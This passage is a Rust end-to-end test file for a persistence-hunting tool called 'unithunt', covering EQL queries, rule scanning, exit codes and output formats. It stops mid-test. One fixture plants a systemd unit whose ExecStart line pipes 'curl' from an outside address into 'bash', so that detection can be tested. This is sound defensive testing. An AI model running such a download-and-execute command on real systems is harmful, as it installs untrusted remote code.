//! The `unithunt` binary, end to end.

use std::io::Write;
use std::process::{Command, Output, Stdio};

fn unithunt(args: &[&str], stdin: &str) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_unithunt"))
        .args(args)
        .current_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("binary runs");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stdin.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

fn lines(o: &Output) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect()
}

#[test]
fn the_self_check_catches_and_misses_what_it_should() {
    let o = unithunt(&["selfcheck"], "");
    assert!(o.status.success());
    insta::assert_snapshot!("selfcheck", String::from_utf8_lossy(&o.stdout));
}

/// With no arguments: the self-check first, then this host's audit log (or why not).
#[test]
fn no_arguments_runs_the_self_check_then_looks_at_the_host() {
    let check = unithunt(&["selfcheck"], "");
    let o = unithunt(&[], "");
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.starts_with(&*String::from_utf8_lossy(&check.stdout)),
        "{out}"
    );
    assert!(out.contains("This host's units (unithunt hunt"), "{out}");
    assert!(out.contains("This host's audit log"), "{out}");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("unithunt hunt: "), "{err}");
}

#[test]
fn eql_prints_source_documents_and_sequences() {
    let o = unithunt(
        &[
            "eql",
            "--size",
            "100",
            r#"file where file.extension == "service" and not process.name : "dpkg""#,
            "examples/atomic-tests.ecs.ndjson",
        ],
        "",
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let out = lines(&o);
    assert_eq!(out.len(), 4);
    assert_eq!(
        out[0]["file"]["name"], "df00tech-test.service",
        "output is the source document, in time order"
    );
    let seq = r#"sequence by host.name, user.name with maxspan=5m
        [file where file.extension == "service"]
        [process where process.name == "systemctl"]"#;
    let o = unithunt(
        &[
            "eql",
            "--result-position",
            "head",
            "--size",
            "1",
            seq,
            "examples/atomic-tests.ecs.ndjson",
        ],
        "",
    );
    let out = lines(&o);
    assert_eq!(out.len(), 1);
    assert_eq!(out[0]["join_keys"], serde_json::json!(["lab-1", "root"]));
    assert_eq!(out[0]["events"][1]["process"]["name"], "systemctl");
}

#[test]
fn missing_events_print_as_missing() {
    let input = concat!(
        r#"{"@timestamp": 1000, "event": {"category": "file"}, "host": {"id": "h"}, "id": 1}"#,
        "\n",
        r#"{"@timestamp": 2000, "event": {"category": "process"}, "host": {"id": "h"}, "id": 2}"#,
        "\n",
    );
    let q = "sequence by host.id with maxspan=1m [file where true] ![network where true] [process where true]";
    let o = unithunt(&["eql", q, "-"], input);
    let out = lines(&o);
    assert_eq!(out.len(), 1, "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(out[0]["events"][1], serde_json::json!({"missing": true}));
    assert_eq!(out[0]["events"][2]["id"], 2);
}

#[test]
fn timestamps_order_results_and_accept_every_shape() {
    let input = concat!(
        r#"{"@timestamp": "2026-01-01T00:00:03Z", "event": {"category": "process"}, "id": 3}"#,
        "\n",
        r#"{"@timestamp": 1767225601000, "event": {"category": "process"}, "id": 1}"#,
        "\n",
        r#"{"@timestamp": "1767225602000", "event": {"category": "process"}, "id": 2}"#,
        "\n",
    );
    let o = unithunt(&["eql", "process where true", "-"], input);
    let ids: Vec<i64> = lines(&o)
        .iter()
        .map(|d| d["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids, vec![1, 2, 3]);
    let o = unithunt(&["eql", "--size", "2", "process where true", "-"], input);
    let ids: Vec<i64> = lines(&o)
        .iter()
        .map(|d| d["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids, vec![2, 3], "tail is the default result position");
}

#[test]
fn bad_input_is_counted_and_reported_with_file_and_line() {
    let input = "{\"@timestamp\": 1, \"event\": {\"category\": \"process\"}}\nnot json\n{\"event\": {\"category\": \"process\"}}\n";
    let o = unithunt(&["eql", "process where true", "-"], input);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("3 lines: 2 events evaluated"), "{err}");
    assert!(err.contains("skipped <stdin>:2: malformed JSON"), "{err}");
    assert!(err.contains("without a readable @timestamp"), "{err}");
    assert_eq!(lines(&o).len(), 1);
}

#[test]
fn bad_queries_point_at_the_token_and_exit_2() {
    let o = unithunt(&["eql", "process where process.name == \"bash"], "");
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("unterminated string"), "{err}");
    assert!(err.contains(" --> query:1:31"), "{err}");
    assert!(err.contains("^^^^^"), "{err}");
    // Control characters in a query never reach the terminal raw.
    let o = unithunt(&["eql", "process where \u{1b}[31m"], "");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!err.contains('\u{1b}'), "{err:?}");
}

#[test]
fn no_match_exits_1_and_missing_files_exit_2() {
    let o = unithunt(
        &[
            "eql",
            "process where process.name == \"nothing\"",
            "examples/atomic-tests.ecs.ndjson",
        ],
        "",
    );
    assert_eq!(o.status.code(), Some(1));
    let o = unithunt(
        &["eql", "process where true", "/nonexistent/file.ndjson"],
        "",
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("/nonexistent/file.ndjson"));
}

#[test]
fn scan_runs_sequence_rules_and_groups_their_alerts() {
    let dir = std::env::temp_dir().join(format!("unithunt-seq-rule-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let rule = dir.join("seq.toml");
    std::fs::write(
        &rule,
        r#"[rule]
rule_id = "seq-unit-then-systemctl"
name = "Unit written, then systemctl"
type = "eql"
language = "eql"
risk_score = 47
severity = "medium"
query = '''
sequence by host.name, user.name with maxspan=5m
  [file where file.extension == "service"]
  [process where process.name == "systemctl"]
'''
"#,
    )
    .unwrap();
    let o = unithunt(
        &[
            "scan",
            "--no-builtin",
            "--rules",
            rule.to_str().unwrap(),
            "-o",
            "ndjson",
            "examples/atomic-tests.ecs.ndjson",
        ],
        "",
    );
    std::fs::remove_dir_all(&dir).unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let alerts = lines(&o);
    // Three sequences (root, the user, and dpkg's unit then the admin's systemctl), each as two
    // building blocks and one shell sharing a group id.
    assert_eq!(alerts.len(), 9, "{alerts:#?}");
    let shells: Vec<_> = alerts
        .iter()
        .filter(|a| a.get("kibana.alert.building_block_type").is_none())
        .collect();
    assert_eq!(shells.len(), 3);
    for shell in shells {
        let group = &shell["kibana.alert.group.id"];
        let members = alerts
            .iter()
            .filter(|a| &a["kibana.alert.group.id"] == group)
            .count();
        assert_eq!(
            members, 3,
            "two building blocks and the shell share the group id"
        );
        assert_eq!(
            shell["kibana.alert.rule.rule_id"],
            "seq-unit-then-systemctl"
        );
    }
}

/// `--event-category-field` is honoured in the legacy dialect too, even when it names the
/// Elasticsearch default (it used to be ignored unless it differed from `event.category`, so
/// the legacy dialect read only `event_type`).
#[test]
fn the_legacy_dialect_reads_the_category_field_it_is_given() {
    let doc = r#"{"event":{"category":"process"},"event_type":"file","@timestamp":"2026-01-01T00:00:00Z"}"#;
    let run = |extra: &[&str], query: &str| {
        let mut args = vec!["eql", "--dialect", "legacy"];
        args.extend(extra);
        args.extend([query, "-"]);
        let o = unithunt(&args, &format!("{doc}\n"));
        let n = lines(&o).len();
        // As grep: status 1 when nothing matched.
        assert_eq!(
            o.status.code(),
            Some(i32::from(n == 0)),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
        n
    };
    // The Python engine's default: `event_type`.
    assert_eq!(run(&[], "process where true"), 0);
    assert_eq!(run(&[], "file where true"), 1);
    // Given, in either dialect.
    let ecs = ["--event-category-field", "event.category"];
    assert_eq!(run(&ecs, "process where true"), 1);
    assert_eq!(run(&ecs, "file where true"), 0);
}

/// Runs `unithunt eql QUERY -` over `docs` (one JSON document per line); the results.
fn eql_over(query: &str, docs: &[serde_json::Value], extra: &[&str]) -> Vec<serde_json::Value> {
    let mut args = vec!["eql"];
    if !extra.contains(&"--size") {
        args.extend(["--size", "100"]);
    }
    args.extend(extra);
    args.extend([query, "-"]);
    let text: String = docs.iter().map(|d| format!("{d}\n")).collect();
    let o = unithunt(&args, &text);
    assert!(
        matches!(o.status.code(), Some(0 | 1)),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    lines(&o)
}

/// Multi-valued join keys, as Elasticsearch joins them (elastic/elasticsearch#89965, "EQL
/// sequences: support join on multi-values"; its test data `extra.data` has `transID` arrays):
/// each value is a key, several multi-valued keys give the cartesian product, a value repeated
/// in one array counts once, null elements are not values; `join_keys` carry the single value.
#[test]
fn each_value_of_a_multi_valued_join_key_joins_as_elasticsearch_does() {
    use serde_json::json;
    let seq = "sequence by name, tags [any where id == 1] [any where id == 2]";
    // The pull request's example: one name, two tags on both events: two sequences.
    let docs = [
        json!({"@timestamp": 1, "id": 1, "name": "a", "tags": ["foo", "bar"]}),
        json!({"@timestamp": 2, "id": 2, "name": "a", "tags": ["foo", "bar"]}),
    ];
    let mut keys: Vec<serde_json::Value> = eql_over(seq, &docs, &[])
        .into_iter()
        .map(|r| r["join_keys"].clone())
        .collect();
    keys.sort_by_key(|k| k.to_string());
    assert_eq!(keys, [json!(["a", "bar"]), json!(["a", "foo"])]);
    // Two multi-valued keys: the cartesian product, four sequences of the same two events.
    let docs = [
        json!({"@timestamp": 1, "id": 1, "name": ["a", "b"], "tags": ["foo", "bar"]}),
        json!({"@timestamp": 2, "id": 2, "name": ["a", "b"], "tags": ["foo", "bar"]}),
    ];
    let results = eql_over(seq, &docs, &[]);
    assert_eq!(results.len(), 4);
    assert!(results
        .iter()
        .all(|r| r["events"].as_array().unwrap().len() == 2));
    // An array against a single value; duplicates and nulls in an array.
    let docs = [
        json!({"@timestamp": 1, "id": 1, "name": "n", "tags": ["a", "b", "a", null]}),
        json!({"@timestamp": 2, "id": 2, "name": "n", "tags": "a"}),
    ];
    let results = eql_over(seq, &docs, &[]);
    assert_eq!(results.len(), 1, "{results:?}");
    assert_eq!(results[0]["join_keys"], json!(["n", "a"]));
    // A numeric array key (`transID` in Elasticsearch's extra.data).
    let docs = [
        json!({"@timestamp": 1, "id": 1, "name": "n", "tags": [1234, 599999]}),
        json!({"@timestamp": 2, "id": 2, "name": "n", "tags": 599999}),
    ];
    let results = eql_over(seq, &docs, &[]);
    assert_eq!(results.len(), 1);
    assert_eq!(results[0]["join_keys"], json!(["n", 599999]));
    // An array of nulls is no value: the event joins nothing (the key is not optional).
    let docs = [
        json!({"@timestamp": 1, "id": 1, "name": "n", "tags": [null]}),
        json!({"@timestamp": 2, "id": 2, "name": "n", "tags": [null]}),
    ];
    assert!(eql_over(seq, &docs, &[]).is_empty());
    // The legacy dialect keys on the whole array, as the Python engine does.
    let docs = [
        json!({"@timestamp": 1, "id": 1, "name": "a", "tags": ["foo", "bar"]}),
        json!({"@timestamp": 2, "id": 2, "name": "a", "tags": ["foo", "bar"]}),
    ];
    let legacy = eql_over(seq, &docs, &["--dialect", "legacy"]);
    assert_eq!(legacy.len(), 1);
}

/// `sample by` splits multi-valued keys the same way (Elasticsearch's sample execution extracts
/// keys as sequences do).
#[test]
fn samples_join_on_each_value_of_a_multi_valued_key() {
    use serde_json::json;
    let docs = [
        json!({"@timestamp": 1, "id": 1, "host": ["h1", "h2"]}),
        json!({"@timestamp": 2, "id": 2, "host": "h2"}),
    ];
    let results = eql_over(
        "sample by host [any where id == 1] [any where id == 2]",
        &docs,
        &[],
    );
    assert_eq!(results.len(), 1, "{results:?}");
    assert_eq!(results[0]["join_keys"], json!(["h2"]));
}

/// Samples need no timestamp: "With the exception of sample queries, EQL searches require that
/// the searched data stream or index contains a timestamp field" (Elasticsearch's EQL reference,
/// "Required fields"). A sequence over the same events still needs one, and says so.
#[test]
fn samples_run_on_events_without_a_timestamp() {
    use serde_json::json;
    let docs = [
        json!({"id": 1, "host": "a"}),
        json!({"id": 2, "host": "a"}),
        json!({"id": 3, "host": "b"}),
    ];
    let results = eql_over(
        "sample by host [any where id == 1] [any where id == 2]",
        &docs,
        &[],
    );
    assert_eq!(results.len(), 1, "{results:?}");
    assert_eq!(results[0]["join_keys"], json!(["a"]));
    let text: String = docs.iter().map(|d| format!("{d}\n")).collect();
    let o = unithunt(
        &[
            "eql",
            "sequence by host [any where id == 1] [any where id == 2]",
            "-",
        ],
        &text,
    );
    assert!(lines(&o).is_empty());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("3 event(s) without a readable @timestamp were not evaluated"),
        "{err}"
    );
}

/// Samples come in ascending join-key order, byte-wise (uppercase first), and `size` takes the
/// first of them whatever `--result-position`: Elasticsearch pages samples out of a composite
/// aggregation and stops at `size` (`SampleIterator`; `test_sample.toml`'s `size3` has "GTA"
/// before "doom").
#[test]
fn samples_come_in_join_key_order_and_size_takes_the_first() {
    use serde_json::json;
    let mut docs = Vec::new();
    for host in ["doom", "GTA", "b"] {
        docs.push(json!({"id": 1, "host": host}));
        docs.push(json!({"id": 2, "host": host}));
    }
    let q = "sample by host [any where id == 1] [any where id == 2]";
    let keys = |r: Vec<serde_json::Value>| -> Vec<serde_json::Value> {
        r.into_iter().map(|r| r["join_keys"][0].clone()).collect()
    };
    assert_eq!(
        keys(eql_over(q, &docs, &[])),
        [json!("GTA"), json!("b"), json!("doom")]
    );
    let two = ["--size", "2"];
    let mut args = vec!["--result-position", "tail"];
    args.extend(two);
    assert_eq!(keys(eql_over(q, &docs, &args)), [json!("GTA"), json!("b")]);
}

/// `eql --mapping`: the body of `GET index/_mapping` (two indices here) decides types, aliases
/// and unknown fields as Elasticsearch does (issue 18, item 5); a bad mapping file is an error
/// with its place, and the legacy dialect refuses the flag.
#[test]
fn eql_mapping_types_fields_as_elasticsearch_does() {
    let dir = std::env::temp_dir().join(format!("unithunt-mapping-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let mapping = dir.join("mapping.json");
    std::fs::write(
        &mapping,
        r#"{
  "logs-a": {"mappings": {"properties": {
    "@timestamp": {"type": "date"},
    "event": {"properties": {"category": {"type": "keyword"}}},
    "agent": {"properties": {"version": {"type": "version"}}},
    "source": {"properties": {"ip": {"type": "ip"}}},
    "ver": {"type": "alias", "path": "agent.version"}}}},
  "logs-b": {"mappings": {"properties": {
    "@timestamp": {"type": "date"},
    "process": {"properties": {"pid": {"type": "long"}}}}}}
}"#,
    )
    .unwrap();
    let m = mapping.to_str().unwrap();
    let input = concat!(
        r#"{"@timestamp": 1, "event": {"category": "process"}, "agent": {"version": "8.9.0"}, "source": {"ip": "10.1.2.3"}, "process": {"pid": "42"}}"#,
        "\n",
        r#"{"@timestamp": 2, "event": {"category": "process"}, "agent": {"version": "8.10.1"}, "source": {"ip": "::ffff:10.1.2.4"}, "process": {"pid": 42}}"#,
        "\n",
    );
    let ids = |o: &Output| -> Vec<String> {
        lines(o)
            .iter()
            .map(|d| d["agent"]["version"].as_str().unwrap_or("").to_string())
            .collect()
    };
    // Without a mapping, strings compare as strings: "8.10.1" < "8.9.0".
    let q = r#"process where agent.version > "8.9.5""#;
    assert_eq!(
        ids(&unithunt(&["eql", q, "-"], input)),
        Vec::<String>::new()
    );
    let o = unithunt(&["eql", "--mapping", m, q, "-"], input);
    assert_eq!(
        ids(&o),
        vec!["8.10.1"],
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    // An alias, an address range, a numeric string: both events.
    let q = r#"process where ver >= "8.9.0" and source.ip == "10.0.0.0/8" and process.pid == 42"#;
    let o = unithunt(&["eql", "--mapping", m, q, "-"], input);
    assert_eq!(
        ids(&o),
        vec!["8.9.0", "8.10.1"],
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    // A field no index maps: Elasticsearch's error, with a suggestion, exit 2.
    let o = unithunt(
        &["eql", "--mapping", m, "process where process.pdi == 1", "-"],
        input,
    );
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("Unknown column [process.pdi], did you mean [process.pid]?"),
        "{err}"
    );
    // ... unless optional: then it is null.
    let o = unithunt(
        &[
            "eql",
            "--mapping",
            m,
            "process where ?process.pdi == null",
            "-",
        ],
        input,
    );
    assert_eq!(lines(&o).len(), 2);
    // A mapping that is not JSON: its place; the legacy dialect: refused.
    std::fs::write(&mapping, "{\n  \"a\": nope\n}").unwrap();
    let o = unithunt(&["eql", "--mapping", m, "process where true", "-"], input);
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("mapping.json:2:9: not JSON: expected ident\n"),
        "{err}"
    );
    let o = unithunt(
        &[
            "eql",
            "--dialect",
            "legacy",
            "--mapping",
            m,
            "process where true",
            "-",
        ],
        input,
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("--mapping is for the Elasticsearch dialect")
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// Issue 19, items 3, 8, 9: a bad Sigma rule among good ones is reported with file:line:col, the
/// others run, and the exit status is 2 (`--strict` stops first); a missing input is an error, not
/// "No alerts"; severities are a closed, case-insensitive set; `hunt --fail-on` exits 1.
#[test]
fn bad_rules_missing_inputs_and_severities_are_said_and_exit_as_documented() {
    let dir = std::env::temp_dir().join(format!("unithunt-ux-{}", std::process::id()));
    let rules = dir.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::copy(
        "rules/sigma/persistence_systemd_service_seed.yml",
        rules.join("seed.yml"),
    )
    .or_else(|_| {
        std::fs::copy(
            concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/../../rules/sigma/persistence_systemd_service_seed.yml"
            ),
            rules.join("seed.yml"),
        )
    })
    .unwrap();
    std::fs::write(
        rules.join("broken.yml"),
        "title: broken\nlogsource: {product: linux}\ndetection:\n  s: {Image: x\n  condition: s\n",
    )
    .unwrap();
    let r = rules.to_str().unwrap();
    let o = unithunt(
        &[
            "scan",
            "--no-builtin",
            "--rules",
            r,
            "-o",
            "ndjson",
            "examples/atomic-tests.ecs.ndjson",
        ],
        "",
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("broken.yml:5:12: YAML: "), "{err}");
    assert!(lines(&o).len() >= 4, "the good rule ran: {err}");
    let o = unithunt(
        &[
            "scan",
            "--strict",
            "--no-builtin",
            "--rules",
            r,
            "-o",
            "ndjson",
            "examples/atomic-tests.ecs.ndjson",
        ],
        "",
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(o.stdout.is_empty(), "--strict runs nothing");
    // A missing input: its error, exit 2, and no table saying there were no alerts.
    let o = unithunt(&["scan", "/nonexistent/unithunt"], "");
    assert_eq!(o.status.code(), Some(2));
    assert!(
        o.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    assert!(String::from_utf8_lossy(&o.stderr).contains("/nonexistent/unithunt: No such file"));
    let o = unithunt(&["watch", "/nonexistent/unithunt", "--exit-at-eof"], "");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("/nonexistent/unithunt: No such file"));
    // Severities: a closed set, any case.
    let o = unithunt(&["hunt", "--min-severity", "bogus"], "");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr)
        .contains("possible values: info, low, medium, high, critical"));
    // `hunt --fail-on`: a root holding a unit that runs a script from /tmp (high or above).
    let root = dir.join("root");
    std::fs::create_dir_all(root.join("etc/systemd/system")).unwrap();
    std::fs::write(
        root.join("etc/systemd/system/updater.service"),
        "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/x | bash'\n[Install]\nWantedBy=multi-user.target\n",
    )
    .unwrap();
    let rt = root.to_str().unwrap();
    let o = unithunt(
        &[
            "hunt",
            "--root",
            rt,
            "--min-severity",
            "HIGH",
            "-o",
            "ndjson",
        ],
        "",
    );
    assert_eq!(o.status.code(), Some(0), "without --fail-on: 0");
    assert!(
        !o.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let o = unithunt(
        &["hunt", "--root", rt, "--fail-on", "high", "-o", "ndjson"],
        "",
    );
    assert_eq!(
        o.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let empty = dir.join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    let o = unithunt(
        &[
            "hunt",
            "--root",
            empty.to_str().unwrap(),
            "--fail-on",
            "low",
        ],
        "",
    );
    assert_eq!(o.status.code(), Some(0));
    let _ = std::fs::remove_dir_all(&dir);
}

/// Issue 19, items 1 and 2: a directory's files are read by content when their name does not
/// say (a Defender `.csv`, a Sysmon `.syslog`), archives are read as their members, and what is
/// not read is listed with the reason; the alerts equal those of the files scanned one by one.
#[test]
fn directories_read_by_content_and_archives_by_member_with_what_was_not_read_said() {
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../../examples/atomic");
    let dir = std::env::temp_dir().join(format!("unithunt-mixed-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    for f in [
        "defender/adversary-tests.csv",
        "sysmon/adversary-tests.syslog",
        "README.md",
    ] {
        let name = std::path::Path::new(f).file_name().unwrap();
        std::fs::copy(format!("{root}/{f}"), dir.join(name)).unwrap();
    }
    let tgz = dir.join("bundle.tar.gz");
    let status = Command::new("tar")
        .args([
            "czf",
            tgz.to_str().unwrap(),
            "-C",
            root,
            "laurel/adversary-tests.json",
        ])
        .status()
        .unwrap();
    assert!(status.success());
    let count = |args: &[&str]| -> usize {
        let o = unithunt(args, "");
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        lines(&o).len()
    };
    let d = dir.to_str().unwrap();
    let one_by_one: usize = [
        "defender/adversary-tests.csv",
        "sysmon/adversary-tests.syslog",
        "laurel/adversary-tests.json",
    ]
    .iter()
    .map(|f| count(&["scan", "-o", "ndjson", &format!("{root}/{f}")]))
    .sum();
    assert!(one_by_one > 50);
    let o = unithunt(&["scan", "-o", "ndjson", d], "");
    assert_eq!(lines(&o).len(), one_by_one);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("not read: 1 file(s)"), "{err}");
    assert!(
        err.contains("README.md: neither its name nor its content"),
        "{err}"
    );
    // A member's place is archive:member.
    let o = unithunt(
        &[
            "eql",
            "--size",
            "1",
            "process where true",
            tgz.to_str().unwrap(),
        ],
        "",
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let o = unithunt(&["convert", tgz.to_str().unwrap()], "");
    assert!(String::from_utf8_lossy(&o.stderr).contains("event(s)"));
    assert!(lines(&o).len() > 10);
    let _ = std::fs::remove_dir_all(&dir);
}

/// Issue 19, item 20: completions for the shells people use and a man page, generated from the
/// clap definitions (so they name every command and flag `--help` does).
#[test]
fn completions_and_the_man_page_come_from_the_command_line_definitions() {
    for shell in ["bash", "zsh", "fish"] {
        let o = unithunt(&["completions", shell], "");
        assert!(o.status.success(), "{shell}");
        let text = String::from_utf8_lossy(&o.stdout);
        // fish spells long options `-l min-severity`.
        for word in ["hunt", "scan", "min-severity", "pipeline", "mapping"] {
            assert!(text.contains(word), "{shell} completions lack {word}");
        }
    }
    let o = unithunt(&["man"], "");
    assert!(o.status.success());
    let man = String::from_utf8_lossy(&o.stdout);
    assert!(
        man.starts_with(".ie") || man.contains(".TH unithunt 1"),
        "{man}"
    );
    assert!(man.contains(".TH unithunt 1"));
    assert!(
        man.contains("Exit status"),
        "the exit codes are in the man page"
    );
    assert!(man.contains("hunt"));
}

/// Issue 19, item 11: tables fit the width `COLUMNS` gives (scan's alerts, hunt's findings).
#[test]
fn tables_fit_the_width_columns_gives() {
    for width in [80usize, 100] {
        let o = Command::new(env!("CARGO_BIN_EXE_unithunt"))
            .args(["scan", "examples/atomic-tests.ecs.ndjson"])
            .current_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."))
            .env("COLUMNS", width.to_string())
            .output()
            .unwrap();
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(out.lines().count() > 5, "{out}");
        for l in out.lines() {
            assert!(
                l.chars().count() <= width,
                "{} > {width}: {l}",
                l.chars().count()
            );
        }
    }
}

/// Issue 19, item 18: flags that mean the same are spelled the same everywhere.
#[test]
fn flags_agree_across_commands() {
    let help =
        |cmd: &str| String::from_utf8_lossy(&unithunt(&[cmd, "--help"], "").stdout).into_owned();
    for cmd in ["scan", "eql", "watch", "convert", "hunt"] {
        assert!(help(cmd).contains("-q, --quiet"), "{cmd} has -q");
    }
    for cmd in ["scan", "eql"] {
        let h = help(cmd);
        let at = h.find("--max-pending").unwrap_or_else(|| panic!("{cmd}"));
        assert!(
            h[at..].contains("[default: 10000]"),
            "{cmd}: {}",
            &h[at..at + 200]
        );
    }
    for cmd in ["scan", "watch"] {
        let h = help(cmd);
        assert!(
            h.contains("--this-host\n") || h.contains("--this-host  "),
            "{cmd}: a switch"
        );
        assert!(!h.contains("--this-host <"), "{cmd}: takes no value");
    }
    let o = unithunt(&["watch", "--this-host", "true", "-"], "");
    assert_eq!(
        o.status.code(),
        Some(2),
        "the old spelling is refused, not misread"
    );
}

/// Issue 19, item 12: one alert count whatever the format (building blocks said apart); the
/// table in time order, a sequence's row saying what its building blocks did.
#[test]
fn alert_counts_agree_across_formats_and_the_table_is_in_time_order() {
    let summary = |format: &str| -> String {
        let o = unithunt(
            &["scan", "-o", format, "examples/atomic-tests.ecs.ndjson"],
            "",
        );
        let err = String::from_utf8_lossy(&o.stderr);
        let line = err
            .lines()
            .find(|l| l.starts_with("unithunt scan:"))
            .unwrap()
            .to_string();
        line.split("skipped; ")
            .nth(1)
            .unwrap()
            .split(" (")
            .next()
            .unwrap()
            .to_string()
    };
    let counts: Vec<String> = ["table", "ndjson", "json", "csv"]
        .iter()
        .map(|f| summary(f))
        .collect();
    assert!(counts.iter().all(|c| *c == counts[0]), "{counts:?}");
    let o = Command::new(env!("CARGO_BIN_EXE_unithunt"))
        .args(["scan", "examples/atomic-tests.ecs.ndjson"])
        .current_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."))
        .env("COLUMNS", "400")
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    let times: Vec<&str> = out
        .lines()
        .filter_map(|l| l.split_whitespace().nth(1))
        .filter(|t| t.starts_with("20"))
        .collect();
    assert!(times.len() > 10, "{out}");
    let mut sorted = times.clone();
    sorted.sort();
    assert_eq!(times, sorted, "rows in time order");
    let seq = out
        .lines()
        .find(|l| l.contains("Systemd Unit Written Then Activated"))
        .unwrap();
    assert!(seq.contains(".service → "), "{seq}");
}

/// Issue 19, item 17: the activation rule is a building block, as Elastic marks low-fidelity
/// rules: its alerts carry `kibana.alert.building_block_type` and stay out of the table, while
/// the sequence rule that builds on the same activity still alerts.
#[test]
fn the_activation_rule_is_a_building_block() {
    let o = unithunt(
        &["scan", "-o", "ndjson", "examples/atomic-tests.ecs.ndjson"],
        "",
    );
    let docs = lines(&o);
    let activation: Vec<&serde_json::Value> = docs
        .iter()
        .filter(|d| {
            d["kibana.alert.rule.name"]
                == "Systemd Unit Activated from a Shell, Interpreter, Web Server or Download Tool"
        })
        .collect();
    assert!(!activation.is_empty());
    assert!(activation
        .iter()
        .all(|d| d["kibana.alert.building_block_type"] == "default"));
    assert!(docs.iter().any(|d| d["kibana.alert.rule.name"]
        == "Systemd Unit Written Then Activated"
        && d.get("kibana.alert.building_block_type").is_none()));
    let o = unithunt(&["scan", "examples/atomic-tests.ecs.ndjson"], "");
    let table = String::from_utf8_lossy(&o.stdout);
    assert!(!table.contains("Activated from a Shell"), "{table}");
    assert!(String::from_utf8_lossy(&o.stderr).contains("(building block)"));
}

/// Issue 19, item 19: the configuration file sets options per command, the command line wins,
/// and docs/config.md lists every key (each command's long options).
#[test]
fn the_configuration_file_sets_options_and_its_keys_are_documented() {
    let doc = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/config.md"))
        .unwrap();
    for cmd in ["scan", "watch", "stream", "eql", "hunt", "convert"] {
        let help = String::from_utf8_lossy(&unithunt(&[cmd, "--help"], "").stdout).into_owned();
        let row = doc
            .lines()
            .find(|l| l.starts_with(&format!("| `[{cmd}]`")))
            .unwrap_or_else(|| panic!("docs/config.md has no row for {cmd}"));
        for line in help.lines() {
            let t = line.trim_start();
            let t = t
                .strip_prefix("-q, ")
                .or_else(|| t.strip_prefix("-o, "))
                .or_else(|| t.strip_prefix("-f, "))
                .or_else(|| t.strip_prefix("-j, "))
                .unwrap_or(t);
            let Some(flag) = t.strip_prefix("--") else {
                continue;
            };
            let name: String = flag
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
                .collect();
            if name == "help" || name.is_empty() {
                continue;
            }
            let key = format!("`{}`", name.replace('-', "_"));
            assert!(row.contains(&key), "docs/config.md: [{cmd}] lacks {key}");
        }
    }
    let dir = std::env::temp_dir().join(format!("unithunt-cfg-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let cfg = dir.join("config.toml");
    std::fs::write(&cfg, "[scan]\noutput = \"ndjson\"\nfail_on_alert = true\n").unwrap();
    let c = cfg.to_str().unwrap();
    let o = unithunt(
        &["--config", c, "scan", "examples/atomic-tests.ecs.ndjson"],
        "",
    );
    assert_eq!(o.status.code(), Some(1), "fail_on_alert from the file");
    assert!(lines(&o).len() > 10, "ndjson from the file");
    let o = unithunt(
        &[
            "--config",
